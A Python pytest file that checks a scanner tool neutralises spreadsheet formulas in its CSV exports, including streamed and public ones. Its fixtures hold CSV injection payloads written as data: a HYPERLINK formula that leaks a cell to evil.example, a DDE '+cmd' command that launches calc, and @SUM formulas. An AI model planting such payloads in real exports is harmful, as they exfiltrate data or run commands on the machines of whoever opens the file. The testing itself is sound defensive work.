"""CSV exports never hand a spreadsheet a formula: app names from the providers and catalog
values arrive as text (issue 13, finding 5), in the public export too."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner import store
from scanner.catalog import read_catalog
from scanner.config import Config, config_sections, load_config
from scanner.csv_guard import CsvFormulaGuard, neutralize_cell, neutralize_csv
from scanner.providers import App, Grant, User
from scanner.scan import run_scans
from scanner.serve import build_datasette
from tests.conftest import FakeTenant, registered_tenant
from tests.publish_fixtures import IT_HASH_VARIABLE, IT_PASSWORD_HASH, sign_in_cookies, write_config

FORMULA_APP = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")"
CLIENT = "999-formula.apps.googleusercontent.com"


@pytest.fixture(scope="module")
def inventory(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv")
    db_path = folder / "inventory.db"
    tenant = FakeTenant(
        users=[User(id=str(n), email=f"s{n}@students.district.org", name=f"@SUM(A{n})", role="student") for n in range(12)],
        apps=[App(id=CLIENT, name=FORMULA_APP, publisher="+cmd|' /C calc'!A0")],
    )
    tenant.grants = [Grant(user_id=user.id, app_id=CLIENT, scopes=["openid"]) for user in tenant.users]
    catalog = folder / "catalog.csv"
    catalog.write_text('name,status,google_client_ids,vendor,alternative\n'
                       f'"=1+1",Approved,{CLIENT},"@SUM(1,2)","-2+3"\n', encoding="utf-8")
    with registered_tenant(tenant):
        assert run_scans(db_path, Config(path=None, sections={}, schema=config_sections()), show_progress=False).failures == []
    store.replace_catalog(store.open_db(str(db_path)), read_catalog(catalog))
    return db_path


@pytest.fixture
async def datasette(inventory, monkeypatch):
    monkeypatch.setenv(IT_HASH_VARIABLE, IT_PASSWORD_HASH)
    instance = build_datasette(inventory, load_config(write_config(inventory.parent, public=True)))
    await instance.invoke_startup()
    return instance


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


async def test_the_public_export_holds_no_formula(datasette):
    response = await datasette.client.get("/inventory/public_apps.csv?_size=max")
    assert response.status_code == 200
    row = dict(zip(*rows_of(response.text)[:2]))
    assert row["app"] == "'=1+1" and row["vendor"] == "'@SUM(1,2)" and row["use_instead"] == "'-2+3"
    assert row["students"] == "10 to 19"  # a count (12, published as its band) is left as it is


async def test_it_exports_hold_no_formula_whatever_the_export(datasette):
    cookies = await sign_in_cookies(datasette)
    for path in ("/inventory/apps.csv", "/inventory/apps.csv?_stream=1", "/inventory/app_summary.csv?_dl=1",
                 "/inventory/users_of_app.csv?app=999-formula.apps.googleusercontent.com"):
        text = (await datasette.client.get(path, cookies=cookies)).text
        cells = [cell for row in rows_of(text) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "@") or cell.startswith(("+cmd", "-2+"))], (path, text)
        assert any(cell.startswith("'=") or cell.startswith("'@") for cell in cells), path
    sql = await datasette.client.get("/inventory.csv", params={"sql": "select '=1+1' as formula, -5 as days, '-5' as text_days"},
                                     cookies=cookies)
    assert rows_of(sql.text) == [["formula", "days", "text_days"], ["'=1+1", "-5", "-5"]]


def test_which_cells_are_neutralised():
    assert [neutralize_cell(c) for c in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-12", "+3.5", "-1e5", "plain", "")] == [
        "'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'\tx", "'\rx", "-12", "+3.5", "-1e5", "plain", ""]


cells = st.text(alphabet=st.sampled_from(list('ab=+-@"\n\r\t,;é 1')), max_size=12)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=6), cuts=st.lists(st.integers(0, 400), max_size=8))
def test_the_stream_is_rewritten_the_same_however_it_is_cut(rows, cuts):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode("utf-8")
    points = sorted({min(cut, len(data)) for cut in cuts})
    pieces = [data[a:b] for a, b in zip([0, *points], [*points, len(data)])]
    guard = CsvFormulaGuard()
    streamed = b"".join(guard.feed(piece) for piece in pieces) + guard.feed(b"", final=True)
    assert streamed.decode("utf-8") == neutralize_csv(data.decode("utf-8"))
    assert rows_of(streamed.decode("utf-8")) == [[neutralize_cell(cell) for cell in row] for row in rows_of(data.decode("utf-8"))]
